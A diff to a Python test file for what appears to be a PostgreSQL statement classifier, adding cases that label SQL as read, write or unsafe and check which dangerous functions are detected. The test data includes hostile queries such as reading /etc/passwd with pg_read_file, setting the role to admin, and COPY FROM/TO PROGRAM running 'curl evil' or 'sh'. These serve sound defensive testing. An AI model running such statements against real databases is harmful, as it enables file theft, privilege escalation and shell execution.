@@ -109,7 +109,10 @@ CASES: list[tuple[str, StatementClass, tuple, tuple, tuple]] = [
     ("SELECT pg_read_file('/etc/passwd')", R, _, _, ("pg_read_file",)),
     ("SELECT pg_catalog.pg_read_file('/etc/passwd')", R, _, _, ("pg_read_file",)),
     ("SELECT query_to_xml('select * from secret', true, true, '')", R, _, _, ("query_to_xml",)),
-    ("SELECT set_config('role', 'admin', false)", R, _, _, ("set_config",)),
+    ("SELECT set_config('role', 'admin', false)", R, _, _, ("set_config:role",)),
+    ("SELECT set_config('JIT', $1, false)", R, _, _, ("set_config:jit",)),
+    ("SELECT set_config($1, 'x', false)", R, _, _, ("set_config",)),
+    ("SELECT ROW(1, 'a')::text", R, _, _, ("row",)),
     ("SELECT dblink('host=x', 'select 1')", R, _, _, ("dblink",)),
     ("SELECT pg_terminate_backend(123)", R, _, _, ("pg_terminate_backend",)),
     ("SELECT current_setting('work_mem')", R, _, _, ("current_setting",)),
@@ -392,6 +395,9 @@ CASES: list[tuple[str, StatementClass, tuple, tuple, tuple]] = [
     ("COPY s.t (a, b) FROM STDIN WITH (FORMAT csv)", W, _, ("s.t",), _),
     ("COPY t TO STDOUT", R, ("public.t",), _, _),
     ("COPY t TO STDOUT WITH CSV HEADER", R, ("public.t",), _, _),
+    ('COPY "s"."t"("a", "b") FROM STDIN (FORMAT binary)', W, _, ("s.t",), _),
+    ("COPY t TO STDOUT (FORMAT csv, FORCE_QUOTE *)", R, ("public.t",), _, _),
+    ("COPY (SELECT * FROM t) TO STDOUT (FORMAT text)", R, ("public.t",), _, _),
     ("COPY (SELECT * FROM t JOIN u ON true) TO STDOUT", R, ("public.t", "public.u"), _, _),
     ("COPY t FROM PROGRAM 'curl evil'", U, _, _, _),
     ("COPY t TO PROGRAM 'sh'", U, _, _, _),
@@ -620,7 +626,7 @@ def test_dangerous_functions_are_not_typed_by_sqlglot():
     from policy.classify import DANGEROUS_FUNCTIONS
 
     for name in sorted(DANGEROUS_FUNCTIONS):
-        c = classify(f"SELECT {name}('x')")[0]
+        c = classify(f"SELECT {name}(a) FROM t")[0]
         assert name in c.functions, (name, c)
 
 
